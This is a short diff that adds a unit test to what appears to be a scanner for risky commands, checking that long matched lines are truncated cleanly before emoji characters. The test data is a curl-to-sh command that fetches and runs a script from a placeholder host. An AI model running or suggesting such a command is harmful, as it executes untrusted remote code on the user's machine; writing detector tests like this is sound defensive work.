@@ -114,3 +114,9 @@ test.each([
   foundIn(text);
   expect(performance.now() - began).toBeLessThan(3_000);
 });
+
+test('a long line is cut between characters', () => {
+  const script = `curl https://x.example/i | sh # `;
+  const found = foundIn(`${script.padEnd(199, 'x')}😀😀`);
+  expect(found).toBe(`1: ${script.padEnd(199, 'x')}…`);
+});
